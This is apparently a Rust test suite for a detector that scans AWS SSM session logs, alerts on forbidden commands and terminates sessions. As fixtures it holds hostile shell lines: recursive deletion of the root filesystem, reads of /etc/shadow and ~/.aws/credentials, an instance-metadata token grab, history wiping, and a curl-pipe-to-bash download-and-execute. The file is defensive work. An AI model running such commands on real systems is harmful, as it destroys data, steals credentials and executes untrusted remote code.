use super::*;
use crate::local::{CollectingNotifier, DryRunTerminator, MemoryStore};
use crate::rules::default_rules;
use crate::session::TerminationOutcome;
use crate::transcript::payload::{
    LogEvent, StreamIdentity, StreamRecord, StreamTarget, decode_subscription, encode_kinesis,
    encode_subscription,
};

const SESSION: &str = "alice-ea1181f76f3adcbdc";

fn scanner() -> Scanner<MemoryStore, CollectingNotifier, DryRunTerminator> {
    let config =
        WardenConfig::from_lookup(|k| (k == "AWS_REGION").then(|| "eu-west-1".to_string()))
            .unwrap();
    Scanner::new(
        MemoryStore::new(),
        CollectingNotifier::new(),
        DryRunTerminator::new(),
        config,
        default_rules(),
    )
}

fn record(lines: &[&str]) -> String {
    serde_json::to_string(&StreamRecord {
        event_version: Some("1.0".into()),
        event_time: Some("2026-11-24T10:21:48Z".into()),
        aws_region: Some("eu-west-1".into()),
        target: Some(StreamTarget {
            id: Some("i-0a1b2c3d4e5f60718".into()),
        }),
        user_identity: Some(StreamIdentity {
            arn: Some("arn:aws:sts::111122223333:assumed-role/Operator/alice".into()),
        }),
        run_as_user: Some("ssm-user".into()),
        session_id: Some(SESSION.into()),
        session_data: lines.iter().map(|l| l.to_string()).collect(),
    })
    .unwrap()
}

fn batch(messages: &[String]) -> Value {
    encode_subscription(&LogsBatch {
        message_type: "DATA_MESSAGE".into(),
        owner: "111122223333".into(),
        log_group: "/aws/ssm/session-logs".into(),
        log_stream: SESSION.into(),
        subscription_filters: vec!["session-warden".into()],
        log_events: messages
            .iter()
            .enumerate()
            .map(|(i, m)| LogEvent {
                id: format!("37184820000000000000000000000000000000000000000000000{i:03}"),
                timestamp: 1_795_000_000_000 + i as i64 * 1000,
                message: m.clone(),
            })
            .collect(),
    })
}

fn rule_ids(scanned: &Scanned) -> Vec<&str> {
    scanned
        .findings
        .iter()
        .map(|f| f.rule_id.as_str())
        .collect()
}

#[tokio::test]
async fn a_forbidden_command_is_recorded_alerted_and_terminated() {
    let s = scanner();
    let event = batch(&[record(&[
        "sh-5.2$ cd /tmp",
        "sh-5.2$ sudo rm -rf --no-preserve-root /",
    ])]);
    let out = s.handle(&event).await.unwrap();
    assert_eq!(rule_ids(&out), ["destructive.rm_system_path"]);
    assert_eq!(out.new_findings, 1);
    assert_eq!(out.terminations.len(), 1);
    assert_eq!(
        out.terminations[0].outcome,
        TerminationOutcome::WouldTerminate
    );
    let alert = &out.alerts[0];
    assert_eq!(alert.attributes["kind"], "finding");
    assert_eq!(alert.attributes["rule_id"], "destructive.rm_system_path");
    assert!(
        alert.body.contains("sudo rm -rf --no-preserve-root /"),
        "{}",
        alert.body
    );
    assert!(
        alert
            .body
            .contains("log-group/$252Faws$252Fssm$252Fsession-logs/log-events/alice-"),
        "{}",
        alert.body
    );
    let stored = s.store().findings(SESSION).await.unwrap();
    assert_eq!(stored.len(), 1);
    assert_eq!(stored[0].line, 2);
}

#[tokio::test]
async fn a_record_tier_signal_is_stored_with_the_session_and_never_alerted() {
    let s = scanner();
    let event = batch(&[record(&[
        "sh-5.2$ TOKEN=$(curl -s -X PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 21600')",
    ])]);
    let out = s.handle(&event).await.unwrap();
    assert_eq!(rule_ids(&out), ["credential_access.imds_token"]);
    assert_eq!(out.findings[0].action, RuleAction::Record);
    assert!(out.alerts.is_empty());
    assert!(out.terminations.is_empty());
    let stored = s.store().findings(SESSION).await.unwrap();
    assert_eq!(stored[0].rule_id, "credential_access.imds_token");
}

#[tokio::test]
async fn a_transcript_before_its_cloudtrail_event_still_records_the_session() {
    let s = scanner();
    s.handle(&batch(&[record(&["sh-5.2$ cat /etc/shadow"])]))
        .await
        .unwrap();
    let session = s.store().load(SESSION).await.unwrap().unwrap().value;
    assert_eq!(session.target.as_deref(), Some("i-0a1b2c3d4e5f60718"));
    assert_eq!(session.finding_count, 1);
    let seen = session.transcript.unwrap();
    assert_eq!(seen.run_as_user.as_deref(), Some("ssm-user"));
    assert_eq!(seen.log_group.as_deref(), Some("/aws/ssm/session-logs"));
}

#[tokio::test]
async fn a_redelivered_batch_records_and_alerts_nothing_twice() {
    let s = scanner();
    let event = batch(&[record(&["sh-5.2$ history -c", "sh-5.2$ rm -rf /"])]);
    let first = s.handle(&event).await.unwrap();
    let again = s.handle(&event).await.unwrap();
    assert_eq!(first.alerts.len(), 1, "one alert for the batch");
    assert_eq!(again.new_findings, 0);
    assert!(again.alerts.is_empty() && again.terminations.is_empty());
    let session = s.store().load(SESSION).await.unwrap().unwrap().value;
    assert_eq!(session.finding_count, 2);
}

#[tokio::test]
async fn one_alert_per_batch_names_every_rule_with_its_command_worst_first() {
    let s = scanner();
    let out = s
        .handle(&batch(&[record(&[
            "sh-5.2$ history -c",
            "sh-5.2$ cat /etc/shadow",
            "sh-5.2$ rm -rf /",
        ])]))
        .await
        .unwrap();
    assert_eq!(out.alerts.len(), 1);
    let alert = &out.alerts[0];
    let alertable: Vec<_> = out
        .findings
        .iter()
        .filter(|f| f.action != RuleAction::Record)
        .collect();
    assert!(alertable.len() >= 3, "{:?}", rule_ids(&out));
    let worst = alertable.iter().map(|f| f.severity).max().unwrap();
    assert_eq!(alert.severity, worst);
    for finding in &alertable {
        assert!(alert.body.contains(&finding.rule_id), "{}", alert.body);
        assert!(alert.body.contains(&finding.command), "{}", alert.body);
    }
    assert!(alert.subject.contains("more"), "{}", alert.subject);
}

#[tokio::test]
async fn a_termination_is_said_once_with_the_rule_that_asked_for_it() {
    let s = scanner();
    let out = s
        .handle(&batch(&[record(&[
            "sh-5.2$ rm -rf /",
            "sh-5.2$ rm -rf /etc",
        ])]))
        .await
        .unwrap();
    assert_eq!(out.terminations.len(), 1, "{:?}", out.terminations);
    assert_eq!(out.alerts.len(), 1);
    let body = &out.alerts[0].body;
    assert_eq!(body.matches("Action:").count(), 1, "{body}");
    assert!(body.contains("rule:destructive."), "{body}");
}

#[tokio::test]
async fn benign_work_raises_nothing() {
    let s = scanner();
    let out = s
        .handle(&batch(&[record(&[
            "sh-5.2$ sudo systemctl status amazon-ssm-agent",
            "● amazon-ssm-agent.service - amazon-ssm-agent",
            "sh-5.2$ rm -rf ./build",
            "sh-5.2$ less /var/log/syslog",
        ])]))
        .await
        .unwrap();
    assert!(out.findings.is_empty(), "{:?}", out.findings);
}

#[tokio::test]
async fn output_that_only_shows_a_forbidden_command_is_not_a_finding() {
    let s = scanner();
    let out = s
        .handle(&batch(&[record(&[
            "sh-5.2$ cat deploy.sh",
            "#!/bin/sh",
            "rm -rf /",
            "sh-5.2$ ",
        ])]))
        .await
        .unwrap();
    assert!(out.findings.is_empty(), "{:?}", out.findings);
}

#[tokio::test]
async fn an_upload_at_end_transcript_with_escapes_is_scanned() {
    let s = scanner();
    let text = "Script started on 2026-11-24 10:21:48+00:00\n\x1b]0;ssm-user@ip-10-0-0-1:~\x07[ssm-user@ip-10-0-0-1 ~]$ \x1b[?2004hcurl -s http://203.0.113.9/x.sh | bash\r\n\x1b[?2004l\rScript done on 2026-11-24 10:25:00+00:00\n";
    let out = s.handle(&batch(&[text.to_string()])).await.unwrap();
    assert_eq!(rule_ids(&out), ["remote_exec_c2.download_execute"]);
}

#[tokio::test]
async fn control_messages_are_acknowledged_without_a_session() {
    let s = scanner();
    let mut control: LogsBatch = serde_json::from_value(serde_json::json!({
        "messageType": "CONTROL_MESSAGE", "owner": "CloudwatchLogs", "logGroup": "", "logStream": "",
        "subscriptionFilters": [], "logEvents": [{"id": "", "timestamp": 1795000000000i64,
        "message": "CWL CONTROL MESSAGE: Checking health of destination Lambda."}]
    }))
    .unwrap();
    control.log_events.truncate(1);
    let out = s.handle(&encode_subscription(&control)).await.unwrap();
    assert!(out.control_message);
    assert!(s.store().sessions().is_empty());
}

#[tokio::test]
async fn a_gzip_bomb_is_a_clear_error() {
    let s = scanner();
    let bomb = batch(&["A".repeat(20 * 1024 * 1024)]);
    let err = s.handle(&bomb).await.unwrap_err();
    assert_eq!(err.kind(), "DecompressionLimit");
    assert!(err.to_string().contains("gzip bomb"), "{err}");
}

#[tokio::test]
async fn secrets_in_commands_are_masked_in_alerts_and_findings() {
    let s = scanner();
    let out = s
        .handle(&batch(&[record(&[
            "sh-5.2$ PGPASSWORD=hunter2 cat ~/.aws/credentials",
        ])]))
        .await
        .unwrap();
    assert_eq!(rule_ids(&out), ["credential_access.aws_credentials_file"]);
    assert!(!out.alerts[0].body.contains("hunter2"));
    assert!(out.findings[0].command.contains("PGPASSWORD=****"));
}

#[tokio::test]
async fn a_session_already_terminated_is_not_terminated_again() {
    let s = scanner();
    crate::handlers::update_session(s.store(), SESSION, |r| {
        r.end(
            SessionState::Terminated,
            Timestamp::UNIX_EPOCH,
            "someone".into(),
            "TerminateSession called".into(),
        );
        true
    })
    .await
    .unwrap();
    let out = s
        .handle(&batch(&[record(&["sh-5.2$ rm -rf /"])]))
        .await
        .unwrap();
    assert_eq!(
        out.terminations[0].outcome,
        TerminationOutcome::AlreadyEnded
    );
}

#[tokio::test]
async fn a_log_stream_that_is_not_a_session_id_is_rejected() {
    let s = scanner();
    let mut event: LogsBatch = serde_json::from_value(serde_json::json!({
        "messageType": "DATA_MESSAGE", "logGroup": "/g", "logStream": "", "logEvents": []
    }))
    .unwrap();
    event.log_stream = "bad stream#1".into();
    let err = s.handle(&encode_subscription(&event)).await.unwrap_err();
    assert_eq!(err.kind(), "RejectedBatch");
}

/// The batches of subscription events, as a Kinesis event carries them.
fn kinesis(events: &[Value]) -> Value {
    let batches: Vec<LogsBatch> = events
        .iter()
        .map(|e| decode_subscription(e, 1 << 20).unwrap())
        .collect();
    encode_kinesis(&batches)
}

#[tokio::test]
async fn kinesis_records_are_scanned_like_subscription_events() {
    let s = scanner();
    let event = kinesis(&[
        batch(&[record(&["sh-5.2$ ls"])]),
        batch(&[record(&["sh-5.2$ cat /etc/shadow"])]),
    ]);
    let reply = s.handle_invocation(event).await.unwrap();
    assert_eq!(reply["batchItemFailures"], serde_json::json!([]));
    let stored = s.store().findings(SESSION).await.unwrap();
    assert_eq!(stored.len(), 1, "{stored:?}");
    let reply_alerts = s.store().alerts(SESSION).await.unwrap();
    assert_eq!(
        reply_alerts.len(),
        1,
        "one alert for the batch with a finding"
    );
}

#[tokio::test]
async fn a_poison_kinesis_record_is_named_and_the_ones_after_it_wait() {
    let s = scanner();
    let mut event = kinesis(&[
        batch(&[record(&["sh-5.2$ history -c"])]),
        batch(&[record(&["sh-5.2$ ls"])]),
        batch(&[record(&["sh-5.2$ cat /etc/shadow"])]),
    ]);
    event["Records"][1]["kinesis"]["data"] = serde_json::json!("not base64 at all!");
    let (done, failed) = s.handle_kinesis(&event).await.unwrap();
    assert_eq!(done.len(), 1);
    let (sequence, error) = failed.unwrap();
    assert_eq!(sequence, format!("{:056}", 2));
    assert!(error.to_string().contains("base64"), "{error}");
    let reply = s.handle_invocation(event).await.unwrap();
    assert_eq!(reply["batchItemFailures"][0]["itemIdentifier"], sequence);
    // The third record waits for Lambda's retry from the second: no shadow finding yet.
    let rules: Vec<String> = s
        .store()
        .findings(SESSION)
        .await
        .unwrap()
        .into_iter()
        .map(|f| f.rule_id)
        .collect();
    assert!(!rules.iter().any(|r| r.contains("shadow")), "{rules:?}");
}

#[tokio::test]
async fn a_command_repeated_in_every_log_event_is_recorded_a_bounded_number_of_times() {
    let s = scanner();
    let flood: Vec<String> = (0..MAX_FINDINGS_PER_RULE * 4)
        .map(|_| record(&["sh-5.2$ cat /etc/shadow"]))
        .collect();
    let out = s.handle(&batch(&flood)).await.unwrap();
    let shadow = out
        .findings
        .iter()
        .filter(|f| f.rule_id == out.findings[0].rule_id)
        .count();
    assert_eq!(shadow, MAX_FINDINGS_PER_RULE);
    assert_eq!(out.alerts.len(), 1, "still one alert for the batch");
}
